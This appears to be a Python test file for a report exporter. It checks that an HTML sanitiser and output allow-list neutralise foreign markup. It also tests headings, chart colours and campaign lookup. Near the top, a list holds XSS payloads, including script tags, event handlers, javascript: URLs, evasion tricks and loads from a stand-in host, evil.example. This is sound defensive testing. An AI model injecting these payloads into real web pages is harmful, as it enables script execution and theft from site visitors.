"""What a page is made of: foreign HTML written anew, outputs by an allow-list, one campaign by its id."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from nbformat import v4

import workbench as wb
from workbench import explore
from workbench.charts.drawing import Column, DataTable, Drawing
from workbench.errors import UsageError
from workbench.reports.exporter import ReportExporter
from workbench.reports.markup import clean, slug
from workbench.reports.page import page_of
from workbench.reports.vega import slim, themed

ATTACKS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&#58;alert(1)'>x</a>",
    "<iframe src=//evil.example></iframe>",
    "<style>@import url(//evil.example)</style>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<form action=//evil.example><input></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<object data=x></object><embed src=x>",
    "<noscript><p title='</noscript><script>alert(1)</script>'>",
    "<!--><script>alert(1)</script>-->",
    "<table background=//evil.example><tr><td onclick=alert(1)>1</td></tr></table>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<p id=theme class=tip>x</p>",
)


class Seen(HTMLParser):
    """Which elements and attributes a parser finds."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str]] = set()
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {(name, value or "") for name, value in attrs}


def harmless(html: str) -> bool:
    seen = Seen(html)
    active = {
        "script",
        "style",
        "img",
        "svg",
        "math",
        "iframe",
        "object",
        "embed",
        "form",
        "input",
        "base",
        "meta",
        "link",
    }
    return not seen.tags & active and all(
        (name == "href" and value.startswith(("http://", "https://", "mailto:", "#")))
        or (name, value)
        in {("rel", "noopener noreferrer"), ("scope", "col"), ("scope", "row"), ("class", "number")}
        or (name == "id" and re.fullmatch(r"[a-z0-9-]+", value))
        for name, value in seen.attributes
    )


@pytest.mark.parametrize("attack", ATTACKS)
def test_foreign_html_is_harmless(attack: str) -> None:
    assert harmless(clean(attack)[0])
    assert harmless(clean(f"<p>before {attack} after</p>")[0])


@given(
    st.lists(
        st.sampled_from([*ATTACKS, "<p>", "</p>", "<b", ">", "'", '"', "text", "<h2>", "</h2>", "<td>"]),
        max_size=8,
    )
)
def test_no_mixture_of_attacks_is_harmful(parts: list[str]) -> None:
    written = clean("".join(parts))[0]
    assert harmless(written)
    assert clean(written)[0].count("<p>") == written.count("<p>")


@given(st.text(max_size=200))
def test_no_text_is_harmful(text: str) -> None:
    assert harmless(clean(text)[0])


def test_tables_and_emphasis_stay() -> None:
    table = "<table><tr><th scope='row'>a</th><td class='number'>1</td></tr></table>"
    assert clean(table)[0] == table.replace("'", '"')
    assert clean("<p>a <em>b</em></p>")[0] == "<p>a <em>b</em></p>"


@given(st.lists(st.text(max_size=20), max_size=20))
def test_places_have_names_of_their_own(texts: list[str]) -> None:
    ids: dict[str, int] = {}
    names = [slug(text, ids) for text in texts]
    assert len(set(names)) == len(names)


def page(**data: object) -> str:
    output = v4.new_output(
        "display_data", data={key.replace("__", "/"): value for key, value in data.items()}
    )
    notebook = v4.new_notebook(cells=[v4.new_markdown_cell("# T"), v4.new_code_cell("x", outputs=[output])])
    html, _ = ReportExporter().from_notebook_node(notebook)
    return str(html).split("<main", 1)[1].split("</main>", 1)[0]


def test_unknown_outputs_are_left_out() -> None:
    assert "block" not in page(**{"application/javascript": "alert(1)"})
    assert "block" not in page(**{"application/vnd.jupyter.widget-view+json": {}})


def test_markdown_from_data_stays_text() -> None:
    shown = page(**{"text/markdown": "[x](javascript:alert(1)) <img src=x onerror=alert(1)>"})
    assert "<img" not in shown
    assert "<a" not in shown


def test_a_drawing_cannot_run_scripts() -> None:
    shown = page(**{"image/svg+xml": "<svg onload='alert(1)'><script>alert(1)</script></svg>"})
    assert "<script" not in shown
    assert 'src="data:image/svg+xml;base64,' in shown


def test_an_error_is_told_without_its_traceback() -> None:
    error = v4.new_output("error", ename="NotEnoughData", evalue="<b>no rows</b>", traceback=["secret path"])
    notebook = v4.new_notebook(cells=[v4.new_code_cell("x", outputs=[error])])
    html, _ = ReportExporter().from_notebook_node(notebook)
    assert "NotEnoughData: &lt;b&gt;no rows&lt;/b&gt;" in html
    assert "secret path" not in html


def test_headings_step_down_from_the_title() -> None:
    cells = [v4.new_markdown_cell("# Title\n\nText"), v4.new_markdown_cell("# Again\n\n## A & B\n\n### C")]
    found = page_of(v4.new_notebook(cells=cells))
    assert found.title == "Title"
    assert [entry["id"] for entry in found.contents] == ["again", "a-amp-b"]


def test_colours_change_outside_data_only() -> None:
    chart = {"data": [{"values": [{"c": "#2358c8"}]}], "marks": [{"fill": {"value": "#2358c8"}}]}
    assert themed(chart)["data"] == chart["data"]
    assert themed(chart)["marks"] == [{"fill": {"value": "var(--s1)"}}]


def test_a_slim_drawing_keeps_its_text() -> None:
    text = '<text opacity="1" font-family="x">3.14159 aria-label="y" opacity="0"</text>'
    assert slim(f"<svg>{text}</svg>") == '<svg><text>3.14159 aria-label="y" opacity="0"</text></svg>'


def test_the_campaign_asked_for_or_the_largest(workspaces: dict[str, Path]) -> None:
    ws = wb.open(workspaces["everything"])
    largest = explore.compare_campaigns(ws, window=None).rows[0].campaign_id
    assert explore.campaign_of(ws) == largest
    assert explore.campaign_of(ws, largest) == largest
    with pytest.raises(UsageError, match="No campaign named"):
        explore.campaign_of(ws, "<script>" * 2000)
    assert explore.campaign_of(wb.open(workspaces["nothing"])) == ""


def test_quality_adds_up_with_the_load_log(workspaces: dict[str, Path]) -> None:
    quality = explore.data_quality(wb.open(workspaces["everything"]))
    assert quality.loads
    assert all(load.rows_read == load.accepted + load.duplicates + load.refused for load in quality.loads)
    assert sum(load.rows_read for load in quality.loads) > 5000
    assert explore.data_quality(wb.open(workspaces["nothing"])).missing


def test_figures_behind_charts_of_one_title_are_told_apart() -> None:
    table = DataTable(caption="", columns=(Column(label="Day"),), rows=(("Monday",),))
    spec = {"data": {"values": [{"x": 1}]}, "mark": "point", "encoding": {}}
    words = {"finding": "Leads stayed.", "description": "A dot.", "spec": spec, "table": table}
    drawn = [Drawing(subtitle=by, **words) for by in ("Leads by day", "Leads by day and channel")]
    outputs = [v4.new_output("display_data", data=one._repr_mimebundle_()) for one in drawn]
    notebook = v4.new_notebook(cells=[v4.new_code_cell("", outputs=outputs)])
    html, _ = ReportExporter().from_notebook_node(notebook)
    regions = re.findall(r'aria-label="(Figures behind[^"]*)"', html)
    assert regions == [f"Figures behind: Leads stayed. {one.subtitle}" for one in drawn]
